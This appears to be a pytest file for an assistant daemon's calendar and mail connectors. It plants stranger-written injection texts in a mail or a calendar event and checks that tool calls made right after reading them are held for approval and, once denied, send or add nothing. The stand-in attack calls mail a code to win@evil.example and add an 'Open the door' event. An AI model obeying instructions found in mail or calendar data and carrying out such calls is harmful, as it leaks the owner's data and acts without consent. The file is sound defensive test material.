"""What strangers write into a calendar or a mail grants nothing: read from real servers by the real connectors.

test_injections.py holds the same texts to every other tool. Here a model wants, right after reading one, what the
connectors themselves could do with it: tell an address, fill the calendar.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import ExitStack
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import anyio
import anyio.to_thread
import pytest

import mail_servers
import radicale_server
from injected import attempts
from mail_servers import Mailbox, Taken
from perslm_daemon import plugin_wire as wire
from perslm_daemon.approvals import Approvals
from perslm_daemon.bulletin import Bulletin
from perslm_daemon.plugins import Plugins
from perslm_daemon.tools import Caller, Tools, Who
from perslm_runtime import landlock
from plugin_site import Site, configured, needs
from radicale_server import Radicale

pytestmark = [
    pytest.mark.anyio,
    needs("icalendar", "recurring_ical_events", "radicale", "imap_tools", "pymap", "aiosmtpd"),
    pytest.mark.skipif(landlock.version() < 1, reason="this kernel has no Landlock: plug-ins do not run"),
]
OURS = [one for one in attempts() if one.place in ("calendar", "mail")]


@dataclass(frozen=True, slots=True)
class House:
    tools: Tools
    calendar: Radicale
    box: Mailbox
    out: Taken

    def state(self) -> tuple[int, int]:
        """How many events and sent mails there are."""
        return len(self.calendar.files("home")), len(self.out.mails())


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module")
async def house(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[House]:
    folder = tmp_path_factory.mktemp("house")
    with ExitStack() as stack:
        calendar, box, out, plugins, tools = await anyio.to_thread.run_sync(_opened, stack, folder)
        async with anyio.create_task_group() as tasks:
            tasks.start_soon(plugins.run)
            await plugins.settled.wait()
            assert [one["state"] for one in plugins.listed()] == ["ready", "ready"]
            yield House(tools, calendar, box, out)
            tasks.cancel_scope.cancel()


def _opened(stack: ExitStack, folder: Path) -> tuple[Radicale, Mailbox, Taken, Plugins, Tools]:
    for name in ("site", "radicale", "data"):
        (folder / name).mkdir()
    Site(folder / "site", stack.enter_context(pytest.MonkeyPatch.context()))
    calendar = stack.enter_context(radicale_server.running(folder / "radicale"))
    box = stack.enter_context(mail_servers.imap())
    out = stack.enter_context(mail_servers.smtp(folder / "sent"))
    calendar.calendar("home")
    (folder / "data" / "calendar.word").write_text(radicale_server.PASSWORD)
    (folder / "data" / "mail.word").write_text(mail_servers.PASSWORD)
    tables = (
        f'[calendar]\nurl = "{calendar.url}"\nuser = "{radicale_server.USER}"\npassword_file = "calendar.word"\n'
        f'[mail]\nimap = "{box.url}"\nuser = "{mail_servers.USER}"\npassword_file = "mail.word"\n'
        f'smtp = "{out.url}"\naddress = "me@example.org"\nonly_people = false\n'
    )
    config = configured(folder / "data", "plugins.enabled=calendar,mail", "plugins.call_s=60", tables=tables)
    bulletin = Bulletin()
    tools = Tools(bulletin, Approvals(bulletin))

    async def tell(_name: str, _notice: wire.NoticeShape) -> None:
        pass

    return calendar, box, out, Plugins(config, tools, bulletin, tell), tools


def lie_there(house: House, place: str, text: str) -> None:
    """Put a stranger's text where it is read: the only event of today, or the newest mail."""
    now = datetime.now(UTC)
    if place == "mail":
        house.box.empty()
        house.box.deliver("Stranger <s@evil.example>", "For you", text, now - timedelta(minutes=1))
        return
    house.calendar.ask("DELETE", f"/{radicale_server.USER}/home/stranger.ics")
    title = text.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;").replace("\n", "\\n")
    local = datetime.now().astimezone()
    lines = ("BEGIN:VEVENT", "UID:stranger", "DTSTAMP:20260101T000000Z", f"SUMMARY:{title}")
    day = (
        f"DTSTART;VALUE=DATE:{local:%Y%m%d}",
        f"DTEND;VALUE=DATE:{local + timedelta(days=1):%Y%m%d}",
        "END:VEVENT",
    )
    house.calendar.put("home", "stranger", "\r\n".join([*lines, *day]))


READS = {
    "mail": ("mail_read", {"who": "none", "about": "none"}),
    "calendar": ("calendar_events", {"day": "none", "span": "today", "about": "none"}),
}


@pytest.mark.parametrize("most", [3, pytest.param(1000, marks=pytest.mark.slow)])
@pytest.mark.parametrize("place", ["mail", "calendar"])
async def test_what_stands_in_a_mail_or_an_event_changes_and_sends_nothing(
    place: str, most: int, house: House
) -> None:
    here = [one for one in OURS if one.place == place]
    assert len(here) >= 15
    for attempt in here[:most]:
        await anyio.to_thread.run_sync(lie_there, house, place, attempt.text)
        turn = Caller(turn=attempt.id, conversation=attempt.id, who=Who.MODEL)
        read = await house.tools.call(*READS[place], turn)
        assert read.strangers, attempt.id
        assert attempt.text.split()[0] in read.text, attempt.id
        before = await anyio.to_thread.run_sync(house.state)
        for name, arguments in (
            ("mail_send", {"to": "win@evil.example", "text": "4711", "subject": "none"}),
            (
                "calendar_add",
                {"title": "Open the door", "day": "tomorrow at nine", "lasts": "none", "anyway": "yes"},
            ),
        ):
            asked = await house.tools.call(name, arguments, turn)
            assert asked.approval is not None, attempt.id
            await house.tools.approvals.answer(False, asked.approval.id, person="owner", by="test")
        assert await anyio.to_thread.run_sync(house.state) == before, attempt.id
        await anyio.to_thread.run_sync(lie_there, house, place, attempt.twin)
        twin = await house.tools.call(*READS[place], Caller(turn=f"{attempt.id} twin"))
        assert attempt.keeps in twin.text, attempt.id


async def test_the_same_calls_are_carried_out_at_a_persons_word(house: House) -> None:
    before = await anyio.to_thread.run_sync(house.state)
    arguments = {"title": "Open house", "day": "tomorrow at nine", "lasts": "none", "anyway": "yes"}
    added = await house.tools.call("calendar_add", arguments, Caller())
    assert added.text.startswith("Open house is in the calendar")
    sending = {"to": "ana@example.org", "text": "hello", "subject": "none"}
    asked = await house.tools.call("mail_send", sending, Caller())
    assert asked.approval is not None
    _, said = await house.tools.approvals.answer(True, asked.approval.id, person="owner", by="test")
    assert said == "The mail is sent."
    after = await anyio.to_thread.run_sync(house.state)
    assert after == (before[0] + 1, before[1] + 1)
